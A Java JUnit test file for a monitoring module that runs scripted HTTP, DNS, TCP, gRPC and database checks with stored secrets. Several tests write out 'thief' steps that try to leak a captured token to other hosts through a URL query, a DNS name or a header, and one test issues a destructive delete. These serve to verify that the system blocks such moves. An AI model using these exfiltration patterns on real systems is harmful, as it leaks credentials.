package dev.conduct.checks;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.conduct.identity.Actor;
import dev.conduct.identity.Clients;
import dev.conduct.kernel.Problem;
import dev.conduct.support.ConductTest;
import dev.conduct.support.TestClock;
import dev.conduct.testing.Programs;
import dev.conduct.work.FactSource;
import dev.conduct.work.Products;
import io.grpc.InsecureServerCredentials;
import io.grpc.MethodDescriptor;
import io.grpc.Server;
import io.grpc.ServerServiceDefinition;
import io.grpc.okhttp.OkHttpServerBuilder;
import io.grpc.stub.ServerCalls;
import java.io.ByteArrayInputStream;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.time.Duration;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.core.env.Environment;
import org.springframework.jdbc.core.simple.JdbcClient;

/// Checks against servers that really run: what they find, what they prove, what they keep to themselves.
@ConductTest(properties = {"test.alone=ChecksTest", "conduct.outbound.allow=localhost", "conduct.scheduling=false"})
class ChecksTest {

    private static final AtomicInteger COUNT = new AtomicInteger();
    private static final Actor ADMINISTRATOR = new Actor("system:test", "test", Set.of("administrator"), "api");
    private static final Actor QA =
            new Actor("person:00000000-0000-7000-8000-0000000000c1", "Quinn", Set.of("qa"), "page");
    private static final Actor SUPPORT =
            new Actor("person:00000000-0000-7000-8000-0000000000c2", "Sam", Set.of("support"), "page");
    private static final String COMMIT = "abc1234def567890abc1234def567890abc12345";

    private final Checks checks;
    private final CheckRuns runs;
    private final CheckWork work;
    private final RunQueue queue;
    private final Runner runner;
    private final CheckSecrets secrets;
    private final CheckFacts facts;
    private final Products products;
    private final JdbcClient database;
    private final Environment environment;
    private final Programs programs;
    private final int port;
    private final TestClock clock;
    private final Shop shop = new Shop();
    private final String product = "CK" + COUNT.incrementAndGet();

    ChecksTest(
            Checks checks,
            CheckRuns runs,
            CheckWork work,
            RunQueue queue,
            Runner runner,
            CheckSecrets secrets,
            CheckFacts facts,
            Products products,
            JdbcClient database,
            Environment environment,
            TestClock clock,
            Clients clients,
            @LocalServerPort int port) {
        this.checks = checks;
        this.runs = runs;
        this.work = work;
        this.queue = queue;
        this.runner = runner;
        this.secrets = secrets;
        this.facts = facts;
        this.products = products;
        this.database = database;
        this.environment = environment;
        this.clock = clock;
        this.programs = new Programs(clients, port);
        this.port = port;
    }

    @BeforeEach
    void a_product_of_its_own() {
        products.create(product, "Checked", ADMINISTRATOR);
    }

    @AfterEach
    void stop() {
        shop.close();
    }

    private String orders() {
        return """
                title: Orders are there
                environment: staging
                every: 15 min
                mocked: [payments]
                values:
                  shop: %s
                build:
                  http: GET ${shop}/version
                  commit: /commit
                  number: /build
                steps:
                  - name: Sign in
                    http: POST ${shop}/login
                    json: {user: probe, password: "${secret.PROBE}"}
                    expect: {status: 200, json: {/token: present, /error: absent}}
                    keep: {token: /token}
                  - name: List
                    http: GET ${shop}/orders
                    headers: {Authorization: "Bearer ${token}"}
                    expect:
                      within: 5 s
                      headers: {Content-Type: json}
                      json: {/user/name: probe, /orders/0/id: 1}
                      contains: orders
                      schema:
                        type: object
                        required: [orders]
                        properties:
                          orders: {type: array, items: {type: object, required: [id, total]}}
                  - name: Without credentials
                    http: GET ${shop}/orders
                    expect: {status: 401}
                """.formatted(shop.address());
    }

    @Test
    void a_flow_is_followed_with_its_secret_and_is_evidence_for_what_runs_there() {
        secrets.write(product, "PROBE", "localhost", Shop.PASSWORD, QA);
        checks.write(product, "orders", orders(), null, QA);

        var run = done("orders");

        assertThat(run.steps()).extracting(Outcome::says).contains("Answered 200.", "Answered 401.");
        assertThat(run.state()).as("" + run.steps()).isEqualTo("passed");
        assertThat(run.commit()).isEqualTo(COMMIT);
        assertThat(run.build()).isEqualTo("17");
        assertThat(run.mocked()).containsExactly("payments");
        assertThat(shop.heard()).contains(Shop.PASSWORD);
        assertThat(kept()).as("what is stored and told").doesNotContain(Shop.PASSWORD);
        assertThat(fact(COMMIT)).singleElement().satisfies(fact -> {
            assertThat(fact.passed()).isTrue();
            assertThat(fact.commit()).isEqualTo(COMMIT);
            assertThat(fact.build()).isEqualTo("17");
        });
        assertThat(fact("fff0000"))
                .as("of another build")
                .singleElement()
                .satisfies(fact -> assertThat(fact.commit()).isEqualTo(COMMIT));
    }

    @Test
    void what_is_not_as_expected_fails_with_words_and_the_rest_is_skipped() {
        secrets.write(product, "PROBE", "localhost", "another password", QA);
        checks.write(product, "orders", orders(), null, QA);

        var run = done("orders");

        assertThat(run.state()).isEqualTo("failed");
        assertThat(run.steps())
                .extracting(Outcome::how)
                .containsExactly(Outcome.How.PASSED, Outcome.How.FAILED, Outcome.How.SKIPPED, Outcome.How.SKIPPED);
        assertThat(run.steps().get(1).says())
                .contains("Answered 401, expected 200.")
                .contains("/token is not there.");
        assertThat(fact(COMMIT))
                .singleElement()
                .satisfies(fact -> assertThat(fact.passed()).isFalse());
    }

    @Test
    void a_body_that_breaks_its_schema_or_its_values_is_told_by_its_place() {
        checks.write(product, "schema", flow("""
                  - http: GET ${shop}/orders/health
                    expect:
                      json: {/payments: sideways}
                      schema: {type: object, required: [orders], properties: {payments: {type: integer}}}
                """), null, QA);

        assertThat(done("schema").steps().getFirst().says())
                .contains("/payments is up, expected sideways.")
                .contains("Schema: /payments string found, integer expected")
                .contains("orders");
    }

    @Test
    void a_run_says_which_version_of_a_mock_stood_in() {
        var _ = programs.post(
                "qa",
                "/api/v1/products/" + product + "/integration-parts",
                Map.of("name", "payments", "kind", "third_party"));
        var _ = programs.post(
                "qa",
                "/api/v1/products/" + product + "/integration-parts",
                Map.of("name", "post", "kind", "third_party"));
        mock("payments-api", "payments", 200);
        var address = mock("post-api", "post", 200);
        checks.write(
                product,
                "mocked",
                flow("  - http: GET http://localhost:" + port + address + "/parcels\n")
                        .replace("steps:", "mocked: [payments, the clock]\nsteps:"),
                null,
                QA);

        var run = done("mocked");

        assertThat(run.steps()).extracting(Outcome::says).containsExactly("Answered 200 by a mock.");
        assertThat(run.mocked())
                .containsExactly("payments: payments-api, version 1", "the clock", "post: post-api, version 1");
        mock("post-api", "post", 204);
        assertThat(done("mocked").mocked()).contains("post: post-api, version 2");
        assertThat(run.mocked()).contains("post: post-api, version 1");
    }

    private String mock(String name, String external, int status) {
        return programs.put(
                        "qa",
                        "/api/v1/products/" + product + "/mocks/" + name,
                        Map.of("external", external, "mappings", Map.of("response", Map.of("status", status))))
                .json()
                .get("address")
                .asString();
    }

    @Test
    void a_secret_is_sent_to_its_own_host_alone() {
        secrets.write(product, "PROBE", "shop.example.com", Shop.PASSWORD, QA);
        checks.write(product, "thief", flow("  - http: POST ${shop}/login\n    body: ${secret.PROBE}\n"), null, QA);
        checks.write(product, "told", flow("  - http: GET ${shop}/${secret.PROBE}\n"), null, QA);

        assertThat(done("thief").steps().getFirst().says()).contains("is for shop.example.com, not for localhost");
        assertThat(done("told").steps().getFirst().says()).contains("cannot stand in an address");
        assertThat(shop.heard()).doesNotContain(Shop.PASSWORD);
    }

    @Test
    void what_was_kept_after_a_secret_goes_to_the_hosts_of_the_secret_alone_and_is_not_told() {
        var signIn = """
                  - http: POST ${shop}/login
                    json: {user: probe, password: "${secret.PROBE}"}
                    keep: {token: /token}
                """;
        secrets.write(product, "PROBE", "localhost", Shop.PASSWORD, QA);
        for (var thief : List.of(
                "http: GET http://127.0.0.1:1/?${token}",
                "dns: ${token}.example.com",
                "tcp: ${token}.example.com:80",
                "{http: GET https://example.com/, headers: {X-Token: '${token}'}}")) {
            checks.write(product, "thief", flow(signIn + "  - " + thief + "\n"), null, QA);
            assertThat(done("thief").steps().getLast().says())
                    .as(thief)
                    .contains("may go to the hosts of the secret alone");
        }
        checks.write(
                product, "told", flow(signIn.replace("keep:", "expect: {json: {/token: x}}\n    keep:")), null, QA);
        assertThat(done("told").steps().getFirst().says()).isEqualTo("/token is a text of 13 characters, expected x.");

        secrets.write(product, "PROBE", "localhost, 127.0.0.1", Shop.PASSWORD, QA);
        checks.write(
                product,
                "meant",
                flow(signIn + "  - http: GET http://127.0.0.1:" + shop.port() + "/?${token}\n"),
                null,
                QA);
        assertThat(done("meant").steps().getLast().says()).contains("private address");
    }

    @Test
    void a_secret_crosses_the_network_in_the_clear_only_where_the_text_says_so() {
        secrets.write(product, "PROBE", "shop.invalid", Shop.PASSWORD, QA);
        var step = "  - http: POST http://shop.invalid/login\n    body: ${secret.PROBE}\n";
        checks.write(product, "clear", flow(step), null, QA);
        assertThat(done("clear").steps().getFirst().says()).contains("to shop.invalid in the clear");
        checks.write(product, "clear", flow(step + "    plain: true\n"), null, QA);
        assertThat(done("clear").steps().getFirst().says()).startsWith("No answer: shop.invalid");
    }

    @Test
    void the_two_hundredth_secret_can_still_be_replaced() {
        database.sql("""
                        insert into checks.secret (id, product, name, host, value, written_at, written_by)
                        select gen_random_uuid(), :product, 'FILLED_' || n, 'a', ''::bytea, now(), 'system:test'
                          from generate_series(1, 199) n
                        """).param("product", product).update();
        secrets.write(product, "LAST", "a.example.com", "first value", QA);
        secrets.write(product, "LAST", "b.example.com", "second value", QA);
        assertThat(secrets.of(product))
                .anyMatch(kept -> kept.name().equals("LAST") && kept.host().equals("b.example.com"));
        assertThatThrownBy(() -> secrets.write(product, "MORE", "a.example.com", "value", QA))
                .hasMessageContaining("200 secrets");
        database.sql("delete from checks.secret where name like 'FILLED_%'").update();
    }

    @Test
    void what_a_check_proved_then_it_proves_though_it_is_retired_since() {
        secrets.write(product, "PROBE", "localhost", Shop.PASSWORD, QA);
        checks.write(product, "orders", orders(), null, QA);
        done("orders");
        var then = clock.instant();
        assertThat(fact(COMMIT)).hasSize(1);

        clock.advance(Duration.ofMinutes(5));
        checks.retire(product, "orders", QA);

        assertThat(fact(COMMIT)).isEmpty();
        assertThat(facts.facts(new FactSource.Question(product + "-1", product, "", COMMIT, then)))
                .as("judged once more, as of then")
                .hasSize(1);
    }

    @Test
    void a_run_that_cannot_be_read_stops_no_other() {
        checks.write(product, "unreadable", flow("  - dns: localhost\n"), null, QA);
        checks.write(product, "names", flow("  - dns: localhost\n"), null, QA);
        runs.ask(product, "unreadable", QA);
        clock.advance(Duration.ofSeconds(1));
        runs.ask(product, "names", QA);
        database.sql("update checks.text set text = 'no check' where definition = :id")
                .param("id", checks.find(product, "unreadable", QA).id())
                .update();

        work.workOff();

        assertThat(states("unreadable")).containsExactly("broken_off");
        assertThat(states("names")).containsExactly("passed");
    }

    private static final String FAULT = """
              - drill:
                  break: [{http: 'POST ${shop}/faults', keep: {fault: /id}}]
                  survives: [{http: 'GET ${shop}/orders/health'}]
                  mend: [{http: 'DELETE ${shop}/faults/${fault}'}]
            """;

    @Test
    void what_a_killed_server_left_broken_is_mended_by_what_its_steps_had_kept_and_until_it_is() {
        checks.write(product, "drill", flow(FAULT), null, QA);
        var run = runs.ask(product, "drill", QA);
        var taken = queue.next(clock.instant()).orElseThrow();
        assertThat(taken.id()).isEqualTo(run.id());
        queue.breaking(
                run.id(),
                Map.of("fault", new Values.Kept("f-17", null), "shop", new Values.Kept(shop.address(), null)));
        assertThat(kept()).as("sealed").doesNotContain("f-17");
        shop.breaks();
        shop.stubborn(true);

        clock.advance(Duration.ofMinutes(4));
        work.workOff();
        assertThat(whole(run).steps())
                .singleElement()
                .satisfies(step -> assertThat(step.failed()).isTrue());
        assertThat(shop.pays()).isFalse();

        shop.stubborn(false);
        clock.advance(Duration.ofMinutes(2));
        work.workOff();

        assertThat(shop.pays()).isTrue();
        assertThat(whole(run).state()).isEqualTo("broken_off");
        assertThat(whole(run).steps())
                .singleElement()
                .satisfies(step -> assertThat(step.failed()).isFalse());
    }

    private CheckRun whole(CheckRun run) {
        return runs.whole(checks.find(product, "drill", QA), run.id());
    }

    @Test
    void a_server_that_ends_breaks_no_more_and_mends_what_it_broke() {
        var known = new HashMap<String, Values.Kept>();
        var ending = new Runner.Server() {
            @Override
            public boolean rest(Duration time) {
                return false;
            }

            @Override
            public boolean ending() {
                return !shop.pays();
            }

            @Override
            public void breaking(Map<String, Values.Kept> now) {
                known.putAll(now);
            }
        };

        var result = runner.run(DefinitionReader.read(flow(FAULT)), Map.of(), ending);

        assertThat(result.cut()).isTrue();
        assertThat(result.outcomes())
                .extracting(Outcome::how)
                .containsExactly(Outcome.How.PASSED, Outcome.How.SKIPPED, Outcome.How.PASSED);
        assertThat(shop.pays()).isTrue();
        assertThat(known).containsEntry("fault", new Values.Kept("f-17", null));
    }

    @Test
    void private_addresses_are_asked_only_where_they_are_allowed() {
        checks.write(product, "private", """
                title: Inside
                environment: staging
                steps:
                  - http: GET http://127.0.0.1:%1$d/version
                """.formatted(shop.port()), null, QA);
        checks.write(product, "port", """
                title: Inside
                environment: staging
                steps:
                  - tcp: 127.0.0.1:%1$d
                """.formatted(shop.port()), null, QA);
        checks.write(product, "data", """
                title: Inside
                environment: staging
                steps:
                  - database: postgresql://127.0.0.1:5432/orders
                """, null, QA);

        for (var name : List.of("private", "port", "data")) {
            assertThat(done(name).steps().getFirst().says()).as(name).contains("which is a private address");
        }
        assertThat(shop.heard()).isEmpty();
    }

    @Test
    void a_drill_breaks_mends_and_waits_for_recovery() {
        checks.write(product, "drill", flow("""
                  - name: Payments down
                    drill:
                      break:
                        - http: POST ${shop}/faults/payments
                      survives:
                        - http: GET ${shop}/orders/health
                          expect: {json: {/payments: down}}
                        - name: Says that it cannot be paid
                          http: GET ${shop}/pay
                          expect: {status: 503}
                      mend:
                        - http: DELETE ${shop}/faults/payments
                      recovers:
                        - http: GET ${shop}/pay
                      within: 5 s
                """), null, QA);

        var run = done("drill");

        assertThat(run.state()).as("" + run.steps()).isEqualTo("passed");
        assertThat(run.steps())
                .extracting(Outcome::part)
                .containsExactly("broken", "survives", "survives", "mend", "recovers");
    }

    @Test
    void what_a_drill_broke_is_mended_though_nothing_survived() {
        checks.write(product, "drill", flow("""
                  - drill:
                      break: [{http: 'POST ${shop}/faults/payments'}]
                      survives: [{http: 'GET ${shop}/pay'}]
                      mend: [{http: 'DELETE ${shop}/faults/payments'}]
                  - name: After
                    http: GET ${shop}/pay
                """), null, QA);

        var run = done("drill");

        assertThat(run.state()).isEqualTo("failed");
        assertThat(run.steps())
                .extracting(Outcome::how)
                .containsExactly(Outcome.How.PASSED, Outcome.How.FAILED, Outcome.How.PASSED, Outcome.How.SKIPPED);
    }

    @Test
    void a_drill_whose_server_ended_is_mended_by_the_next() {
        checks.write(product, "drill", flow("""
                  - drill:
                      break: [{http: 'POST ${shop}/faults/payments'}]
                      survives: [{http: 'GET ${shop}/orders/health'}]
                      mend: [{http: 'DELETE ${shop}/faults/payments'}]
                """), null, QA);
        var run = runs.ask(product, "drill", QA);
        database.sql("update checks.run set state = 'running', began_at = asked_at where id = :id")
                .param("id", run.id())
                .update();

        clock.advance(Duration.ofMinutes(31));
        work.workOff();

        var after = runs.whole(checks.find(product, "drill", QA), run.id());
        assertThat(after.state()).isEqualTo("broken_off");
        assertThat(after.steps()).singleElement().satisfies(step -> {
            assertThat(step.part()).isEqualTo("mend");
            assertThat(step.how()).isEqualTo(Outcome.How.PASSED);
        });
    }

    @Test
    void steps_nobody_asked_for_are_forgotten_and_the_run_stays() {
        checks.write(product, "names", flow("  - dns: localhost\n").replace("steps:", "every: 1 d\nsteps:"), null, QA);
        work.workOff();
        var run = runs.page(checks.find(product, "names", QA), "", 1).items().getFirst();

        clock.advance(Duration.ofDays(31));
        work.workOff();

        assertThat(runs.whole(checks.find(product, "names", QA), run.id()).steps())
                .isEmpty();
        assertThat(states("names")).hasSize(2);
    }

    @Test
    void a_database_is_asked_planned_and_left_as_it_was() {
        var at = String.valueOf(environment.getProperty("conduct.db.url"))
                .replaceFirst("jdbc:postgresql://[^:/]+", "postgresql://localhost")
                .replaceFirst("\\?.*", "");
        secrets.write(product, "DB", "localhost", environment.getProperty("conduct.db.app.password", ""), QA);
        var head = """
                    user: %s
                    password: ${secret.DB}
                """.formatted(environment.getProperty("conduct.db.app.user")).indent(0);
        var step = "  - database: " + at + "\n" + head;
        checks.write(
                product,
                "database",
                flow(step
                        + step + "    sql: select count(*) from work.product where key = '" + product + "'\n"
                        + "    expect: {rows: 1, value: 1}\n"
                        + step + "    do: roll_back\n"
                        + "    sql: insert into work.product (key, name, created_at) values ('ZZ9', 'z', now()) returning key\n"
                        + "    expect: {rows: 1}\n"
                        + step
                        + "    do: explain\n    sql: select * from work.product where key = 'A'\n    expect: {cost: 1000}\n"
                        + step + "    sql: delete from work.product\n"),
                null,
                QA);

        var run = done("database");

        assertThat(run.steps())
                .extracting(Outcome::says)
                .satisfiesExactly(
                        says -> assertThat(says).startsWith("Connected to PostgreSQL"),
                        says -> assertThat(says).isEqualTo("Says 1."),
                        says -> assertThat(says).isEqualTo("Wrote 1 rows and took them back."),
                        says -> assertThat(says).startsWith("The planner expects a cost of"),
                        says -> assertThat(says).contains("read-only transaction"));
        assertThat(database.sql("select count(*) from work.product where key = 'ZZ9'")
                        .query(Long.class)
                        .single())
                .isZero();
    }

    @Test
    void names_ports_and_health_over_grpc() throws Exception {
        var serving = new AtomicInteger(1);
        var server = health(serving);
        try {
            checks.write(product, "network", """
                    title: The network is there
                    environment: staging
                    steps:
                      - dns: localhost
                        expect: {addresses: 127.0.0.1}
                      - tcp: localhost:%1$d
                      - grpc: localhost:%1$d
                        service: orders.v1.Orders
                        plain: true
                    """.formatted(server.getPort()), null, QA);

            assertThat(done("network").state()).isEqualTo("passed");
            serving.set(2);
            assertThat(done("network").steps().getLast().says()).isEqualTo("orders.v1.Orders is not serving.");
        } finally {
            server.shutdownNow();
        }
        assertThat(done("network").steps().get(1).says()).startsWith("No answer:");
    }

    @Test
    void it_is_done_by_its_schedule_and_the_ledger_hears_of_it_when_there_is_news() {
        secrets.write(product, "PROBE", "localhost", Shop.PASSWORD, QA);
        checks.write(product, "orders", orders(), null, QA);
        for (var round = 0; round < 3; round++) {
            work.workOff();
            clock.advance(Duration.ofMinutes(16));
        }
        assertThat(states("orders")).containsExactly("passed", "passed", "passed");
        assertThat(events("orders", "check.run")).isEqualTo(1);

        shop.runs("fff0000def567890abc1234def567890abc12345");
        work.workOff();
        clock.advance(Duration.ofMinutes(16));
        secrets.write(product, "PROBE", "localhost", "changed since", QA);
        work.workOff();

        assertThat(events("orders", "check.run")).isEqualTo(3);
        checks.retire(product, "orders", QA);
        clock.advance(Duration.ofHours(1));
        work.workOff();
        assertThat(states("orders")).hasSize(5);
        assertThatThrownBy(() -> runs.ask(product, "orders", QA)).hasMessageContaining("retired");
    }

    @Test
    void who_only_reads_reports_writes_and_runs_none() {
        checks.write(product, "names", flow("  - dns: localhost\n"), null, QA);

        assertThat(checks.find(product, "names", SUPPORT).title()).isEqualTo("Flow");
        assertThatThrownBy(() -> checks.write(product, "names", flow("  - dns: localhost\n"), null, SUPPORT))
                .isInstanceOfSatisfying(
                        Problem.class, refused -> assertThat(refused.status()).isEqualTo(403));
        assertThatThrownBy(() -> runs.ask(product, "names", SUPPORT))
                .isInstanceOfSatisfying(
                        Problem.class, refused -> assertThat(refused.status()).isEqualTo(403));
    }

    @Test
    void a_version_written_meanwhile_is_not_written_over() {
        checks.write(product, "names", flow("  - dns: localhost\n"), 0, QA);
        var next = checks.write(product, "names", flow("  - dns: localhost\n    expect: {within: 5 s}\n"), 1, QA);

        assertThat(next.version()).isEqualTo(2);
        assertThatThrownBy(() -> checks.write(product, "names", flow("  - dns: example.com\n"), 1, QA))
                .isInstanceOfSatisfying(
                        Problem.class, refused -> assertThat(refused.status()).isEqualTo(412));
    }

    private String flow(String steps) {
        return "title: Flow\nenvironment: staging\nvalues:\n  shop: " + shop.address() + "\nsteps:\n" + steps;
    }

    private CheckRun done(String name) {
        clock.advance(Duration.ofSeconds(1));
        var run = runs.ask(product, name, QA);
        work.workOff();
        return runs.whole(checks.find(product, name, QA), run.id());
    }

    private List<dev.conduct.procedure.Case.Fact> fact(String commit) {
        return facts.facts(new FactSource.Question(product + "-1", product, "", commit, clock.instant()));
    }

    private List<String> states(String name) {
        return runs.page(checks.find(product, name, QA), "", 50).items().stream()
                .map(CheckRun::state)
                .toList();
    }

    private long events(String name, String action) {
        return database.sql("select count(*) from ledger.event where object = :object and action = :action")
                .param("object", "check:" + checks.find(product, name, QA).id())
                .param("action", action)
                .query(Long.class)
                .single();
    }

    /// All that the module stores in the clear, and all entries of the ledger.
    private String kept() {
        return database.sql("""
                        select coalesce(string_agg(part, ' '), '') from (
                            select row(d.*)::text from checks.definition d union all
                            select row(r.*)::text from checks.run r union all
                            select row(t.*)::text from checks.text t union all
                            select row(s.*)::text from checks.step s union all
                            select row(v.*)::text from checks.secret v union all
                            select convert_from(entry, 'UTF8') from ledger.event) as parts(part)
                        """).query(String.class).single();
    }

    private static Server health(AtomicInteger serving) throws java.io.IOException {
        var bytes = new MethodDescriptor.Marshaller<byte[]>() {
            @Override
            public InputStream stream(byte[] value) {
                return new ByteArrayInputStream(value);
            }

            @Override
            public byte[] parse(InputStream stream) {
                try {
                    return stream.readAllBytes();
                } catch (java.io.IOException e) {
                    throw new java.io.UncheckedIOException(e);
                }
            }
        };
        var check = MethodDescriptor.<byte[], byte[]>newBuilder()
                .setType(MethodDescriptor.MethodType.UNARY)
                .setFullMethodName("grpc.health.v1.Health/Check")
                .setRequestMarshaller(bytes)
                .setResponseMarshaller(bytes)
                .build();
        var service = ServerServiceDefinition.builder("grpc.health.v1.Health")
                .addMethod(check, ServerCalls.asyncUnaryCall((_, answer) -> {
                    answer.onNext(new byte[] {0x08, (byte) serving.get()});
                    answer.onCompleted();
                }))
                .build();
        return OkHttpServerBuilder.forPort(
                        new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), InsecureServerCredentials.create())
                .addService(service)
                .build()
                .start();
    }
}
